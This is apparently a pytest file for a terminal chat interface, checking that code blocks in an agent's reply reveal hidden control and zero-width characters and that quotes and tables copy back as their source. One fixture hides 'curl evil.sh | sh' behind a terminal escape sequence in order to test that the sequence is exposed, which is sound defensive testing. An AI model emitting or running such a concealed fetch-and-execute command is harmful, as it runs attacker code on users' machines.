"""What is seen is what is copied: signs for what can't be seen, sources of what is drawn."""

from __future__ import annotations

import pytest

from robotui.chats.turns import Reply, Said
from robotui.layout.code_section import DEFAULT, CodeOptions
from robotui.layout.rows import Row
from robotui.layout.scrollback import Place, Scrollback
from robotui.layout.wrap import cells_of

EVIL = "echo hello \x1b]0;; curl evil.sh | sh # \x07"
SHOWN = "echo hello ␛]0;; curl evil.sh | sh # ␇"


def log_of(text: str, width: int = 60, options: CodeOptions = DEFAULT) -> Scrollback:
    log = Scrollback(options)
    log.load([Reply("RepoAgent", [Said([text])], "done")])
    log.resize(width)
    log.measure(0)
    return log


def texts(log: Scrollback) -> list[str]:
    return [line.text for line in log.entries[0].stack.lines() if not line.chrome]


def rows(log: Scrollback) -> list[Row]:
    return [section.row(row) for section, row in log.entries[0].stack.rows(0)]


def shown(log: Scrollback) -> list[str]:
    return ["".join(run.text for run in row).rstrip() for row in rows(log)]


def test_code_shows_each_character_that_is_copied() -> None:
    log = log_of(f"```sh\n{EVIL}\na\u200bb\u202ec\n\td  \n```\n")
    assert texts(log)[-3:] == [SHOWN, "a\ufffdb\ufffdc", "\td  "]
    assert any(SHOWN in row for row in shown(log))
    assert log.entries[0].stack.code()[0][0].block.source.startswith(EVIL)


@pytest.mark.parametrize("wrap", [True, False])
def test_a_joiner_takes_a_cell_and_hides_nothing(wrap: bool) -> None:
    log = log_of("```\na\u200db\u200dc\n```\n", options=CodeOptions(wrap=wrap))
    (row,) = (row for row in shown(log) if "a" in row and "c" in row and "copy" not in row)
    assert row.strip() == "a\ufffdb\ufffdc"
    assert cells_of(row.strip()) == 5


def test_a_quote_is_copied_as_its_source() -> None:
    text = "> a\n>\n> b\n>\n> - c\n>\n>   d\n>\n> | e |\n> | --- |\n> | f |"
    log = log_of(text)
    lines = log.entries[0].stack.lines()
    first = next(at for at, line in enumerate(lines) if line.text == "a")
    copied = log.text(Place(0, first, 0), Place(0, len(lines) - 1, 99))
    assert copied == text


@pytest.mark.parametrize("width", [60, 10])
def test_pipes_in_cells_are_copied_with_their_escapes(width: int) -> None:
    log = log_of("| a\\|b | c |\n|---|---|\n| `x\\|y\\|` z | \\|w |\n", width)
    table = texts(log)[-3:]
    assert table == ["| a\\|b | c |", "| --- | --- |", "| x\\|y\\| z | \\|w |"]
    places = [
        (run.text.strip(), table[-1][run.start : run.start + run.length].strip())
        for row in rows(log)[-4 if width == 10 else -1 :]
        for run in row
        if run.start >= 0 and run.length and run.text.strip(" │")
    ]
    assert places == [
        *(("x", "x"), ("|", "\\|"), ("y", "y"), ("|", "\\|"), ("z", "z")),
        *(("|", "\\|"), ("w", "w")),
    ]
    end = table[-1].index(" z")
    line = next(
        at for at, line in enumerate(log.entries[0].stack.lines()) if line.text == table[-1]
    )
    assert log.text(Place(0, line, 2), Place(0, line, end)) == "x\\|y\\|"
